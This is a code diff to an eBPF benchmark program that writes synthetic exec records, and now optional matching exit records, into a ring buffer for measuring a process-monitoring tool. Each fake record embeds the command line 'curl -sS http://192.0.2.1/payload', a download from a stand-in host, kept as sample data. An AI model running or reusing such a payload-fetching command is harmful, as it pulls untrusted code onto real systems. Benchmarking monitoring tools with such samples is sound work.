@@ -1,7 +1,7 @@
 //go:build ignore
 // SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
 // A source of records for measurement alone: emit writes as many exec records of 256 bytes into the ring as it is
-// asked for, each by another process. No node loads it.
+// asked for, each by another process, and where it is asked to that process's exit. No node loads it.
 #include "scope.h"
 
 char LICENSE[] SEC("license") = "Dual BSD/GPL";
@@ -18,8 +18,9 @@ struct bench_record {
 };
 
 struct emit_order {
-	__u32 count;
-	__u32 emitted;
+	__u32 count; // of processes
+	__u32 first; // their first pid
+	__u32 ends;
 };
 
 static long emit_one(__u32 i, struct emit_order *order)
@@ -33,7 +34,7 @@ static long emit_one(__u32 i, struct emit_order *order)
 	r->header.kind = RECORD_EXEC;
 	r->header.size = sizeof(*r);
 	r->header.boot = bpf_ktime_get_boot_ns();
-	r->process.pid = 100000 + i % 4096;
+	r->process.pid = order->first + i;
 	r->process.start = r->header.boot;
 	r->process.parent_pid = 1;
 	r->strings.exe_len = BENCH_EXE;
@@ -42,16 +43,30 @@ static long emit_one(__u32 i, struct emit_order *order)
 	__builtin_memcpy(r->data, "/usr/bin/curl", BENCH_EXE);
 	__builtin_memcpy(r->data + BENCH_EXE, "curl\0-sS\0http://192.0.2.1/payload", 34);
 	__builtin_memcpy(r->data + sizeof(r->data) - BENCH_CWD, "/var/me", BENCH_CWD);
-	bpf_ringbuf_submit(r, soon(r->header.boot));
-	order->emitted++;
+	__u64 start = r->header.boot;
+	bpf_ringbuf_submit(r, soon(start));
+	if (!order->ends)
+		return 0;
+	struct record_fork *end = bpf_ringbuf_reserve(&ring, sizeof(*end), 0);
+	if (!end) {
+		count_drop(RECORD_EXIT);
+		return 0;
+	}
+	__builtin_memset(end, 0, sizeof(*end));
+	end->header.kind = RECORD_EXIT;
+	end->header.size = sizeof(*end);
+	end->header.boot = start;
+	end->process.pid = order->first + i;
+	end->process.start = start;
+	end->process.parent_pid = 1;
+	bpf_ringbuf_submit(end, soon(start));
 	return 0;
 }
 
 SEC("syscall")
 int emit(struct emit_order *ctx)
 {
-	struct emit_order order = { .count = ctx->count };
+	struct emit_order order = *ctx;
 	bpf_loop(order.count, emit_one, &order, 0);
-	ctx->emitted = order.emitted;
 	return 0;
 }
